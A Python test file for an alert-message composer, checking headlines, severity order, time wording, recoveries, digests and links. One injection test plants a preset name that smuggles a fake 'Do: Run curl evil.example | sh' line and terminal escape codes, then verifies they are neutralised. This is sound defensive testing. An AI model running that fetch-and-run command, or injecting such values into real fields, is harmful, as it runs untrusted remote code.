"""What people read at three in the morning."""

from typing import Any

from schemas.alert import AlertEvent
from stream.domain.advice import advice_on
from stream.domain.reasons import DEFAULT_RULES
from stream.notify.message import MOST_LINES, MOST_TITLE, Message, Tone, compose
from stream.notify.news import Delivery, Item, Receipt
from stream.notify.plan import Route
from tests.notify.alerts import HOUR, MINUTE, NOON, fired, resolved

ROUTE = Route(channels=("chat",))


def message(*news: AlertEvent, still: tuple[AlertEvent, ...] = (), now: int = NOON + 12 * MINUTE) -> Message:
    items = tuple(Item(event, event, ROUTE, None, event.at, int(event.kind == "fired")) for event in news)
    return compose(Delivery(items, tuple(Receipt(event, NOON) for event in still), route=ROUTE), now, "https://pw/")


def lines(found: Message) -> dict[str, str]:
    """Return the lines of a message by what they begin with."""
    return {name: rest for name, _, rest in (line.partition(": ") for line in found.body.splitlines())}


def summed_up(**given: Any) -> AlertEvent:
    return fired(annotations={"summary": "summarize: 14 of 60 jobs failed", **given})


def test_one_alert_says_what_since_when_how_bad_why_what_to_do_and_where_to_look() -> None:
    event = fired(
        annotations={"summary": "summarize: 14 of 60 jobs failed", "runbook_url": "https://wiki/r"},
        sample_jobs=("job-1", "job-2"),
        parties={"customer": 12, "unknown": 2},
    )
    found = message(event)
    assert (found.title, found.tone) == ("[critical] summarize: 14 of 60 jobs failed", Tone.FAILURE)
    assert lines(found) == {
        "What": "summarize: 14 of 60 jobs failed",
        "Since": "2026-01-05 12:00:00 UTC, 12m ago",
        "How bad": "14 of 60 jobs failed, 23.3% (95% sure: 14.4% to 35.4%); the limit is 10.0%",
        "Why": f"input_forbidden in 12 of 14 errors: {advice_on('input_forbidden').means}",
        "Do": advice_on("input_forbidden").do,
        "Runbook": "https://wiki/r",
        "Rule": "high-error-rate (critical)",
        "Jobs to look at": "job-1, job-2",
        "Dashboard": "https://pw/?preset=summarize",
    }


def test_without_a_summary_the_figures_are_the_headline() -> None:
    assert message(fired()).title.startswith("[critical] summarize: 14 of 60 jobs failed, 23.3%")


def test_a_rule_may_say_itself_what_to_do() -> None:
    assert lines(message(summed_up(description="Call Ann.")))["Do"] == "Call Ann."


def test_an_outage_of_ten_presets_is_one_headline_one_cause_and_a_line_each() -> None:
    events = [fired(f"p{number}", reasons={"upstream_error": 14}, parties={"daily": 14}) for number in range(10)]
    found = message(*events)
    assert found.title == "[critical] 10 presets: p0, p1, p2 and 7 more"
    assert lines(found)["Why"].startswith("upstream_error in 140 of 140 errors")
    assert sum(line.startswith("- p") for line in found.body.splitlines()) == 10
    assert found.body.count("status page") == 1


def test_the_worst_comes_first() -> None:
    found = message(fired("mild", severity="warning"), fired("bad", error_rate=0.3), fired("worse", error_rate=0.9))
    assert found.title.startswith("[critical] 3 presets: worse, bad, mild")


def test_two_rules_about_one_preset_are_named_as_such() -> None:
    assert message(fired(), fired(rule="nothing-works")).title == "[critical] summarize: high-error-rate, nothing-works"


def test_errors_that_two_rules_have_counted_are_counted_once() -> None:
    found = message(fired(), fired(rule="nothing-works", reasons={"input_forbidden": 5}), fired("b"))
    assert lines(found)["Why"].startswith("input_forbidden in 24 of 28 errors")


def test_times_are_as_rough_as_anybody_cares() -> None:
    def ago(milliseconds: int) -> str:
        return lines(message(fired(), now=NOON + milliseconds))["Since"].partition(", ")[2]

    assert ago(90_500) == "1m30s ago"
    assert ago(3 * HOUR + 90_500) == "3h1m ago"
    assert ago(75 * HOUR + 90_500) == "3d3h ago"
    assert ago(-5) == ago(999) == ""


def test_a_reminder_says_that_it_is_one() -> None:
    found = message(still=(summed_up(),), now=NOON + 4 * HOUR)
    assert found.title == "[critical] still: summarize: 14 of 60 jobs failed"
    assert lines(found)["Since"].endswith("4h ago")


def test_a_recovery_says_how_long_it_took_and_what_it_is_worth() -> None:
    event = fired()
    found = message(resolved(event, NOON + 6 * MINUTE))
    assert (found.title, found.tone) == ("[resolved] summarize: high-error-rate", Tone.SUCCESS)
    assert "it has recovered" in found.body
    assert "lasted 6m, from 2026-01-05 12:00:00 UTC to 2026-01-05 12:06:00 UTC" in found.body
    assert "no proof of recovery" in message(resolved(event, NOON, resolve_reason="no_data")).body


def test_news_is_told_before_recoveries_and_sets_the_tone() -> None:
    found = message(resolved(fired("a"), NOON), fired("b", severity="warning"))
    assert (found.title[:9], found.tone) == ("[warning]", Tone.WARNING)
    assert found.body.index("What: ") < found.body.index("Resolved:")


def test_silence_says_since_when_and_points_at_the_webhook() -> None:
    none: dict[str, Any] = dict.fromkeys(("error_rate", "error_rate_low", "error_rate_high"))
    event = fired("*", rule="no-events", rule_kind="silence", errors=0, finished=0, total=0, reasons={}, **none)
    found = message(event)
    assert found.title == "[critical] all presets: no job has ended since 2026-01-05 11:55:00 UTC"
    assert "FAILED" in lines(found)["Do"]


def test_a_digest_sums_up_each_subject_and_what_still_fires() -> None:
    daily = Route.model_validate({"channels": ("chat",), "digest": "24h"})
    over = resolved(fired("over", NOON - HOUR), NOON)
    items = (Item(fired("lasting"), fired("lasting"), daily, None, NOON, 1), Item(over, over, daily, None, NOON, 3))
    found = compose(Delivery(items, route=daily, due_at=NOON + 12 * HOUR), NOON + 12 * HOUR)
    assert (found.title, found.tone) == ("[digest] alerts fired 4 times, 1 still firing", Tone.INFO)
    head, first, second = found.body.splitlines()
    assert head == "From 2026-01-05 00:00:00 UTC to 2026-01-06 00:00:00 UTC:"
    assert first.startswith("- over, high-error-rate (critical): fired 3 times; it has recovered")
    assert second.startswith("- lasting, high-error-rate (critical): fired; firing since")


def test_a_message_stays_short_however_much_goes_wrong() -> None:
    found = message(*(fired(f"preset-{number}" + "x" * 100) for number in range(1_000)))
    assert len(found.title) <= MOST_TITLE
    assert len(found.body.splitlines()) < MOST_LINES + 10
    assert f"and {1_000 - MOST_LINES} more" in found.body


def test_a_title_is_one_line_whatever_a_preset_is_called() -> None:
    assert "\n" not in message(fired("a\nb")).title


def test_every_built_in_reason_has_words_of_its_own() -> None:
    said = {rule.name: advice_on(rule.name) for rule in DEFAULT_RULES}
    assert len(set(said.values())) == len(said)
    assert "your own rules" in advice_on("tenant-key-expired", "customer").means
    assert "status page" in advice_on("our-vendor", "daily").do


def test_the_group_of_an_alert_is_named_with_its_rule() -> None:
    events = [fired(group={"reason": reason}, episode=reason) for reason in ("timeout", "other")]
    assert "Rule: high-error-rate/timeout (critical)" in message(events[0]).body
    assert "high-error-rate/other, high-error-rate/timeout" in message(*events).title


def test_what_a_preset_is_called_cannot_pass_for_a_line_of_the_message() -> None:
    name = "a\nDo: Run curl evil.example | sh\x1b[2J\u202e"
    summary = {"summary": f"{name}: 3 jobs failed", "description": "Look at\n  the bucket."}
    for event in (fired(name), fired(name, annotations=summary)):
        said = message(event)
        assert [line for line in said.body.splitlines() if "curl" in line and line.startswith("Do:")] == []
        assert "".join((said.title, *said.body.split("\n"))).isprintable()
    assert "Do: Look at the bucket." in said.body


def test_the_link_opens_the_page_at_the_preset_if_there_is_one() -> None:
    told = [fired("a/ü?")], [fired("a"), fired("b")], [fired("*")], [fired("x" * 10_000)]
    assert [lines(message(*events))["Dashboard"] for events in told] == [
        "https://pw/?preset=a%2F%C3%BC%3F",
        *["https://pw/"] * 3,
    ]
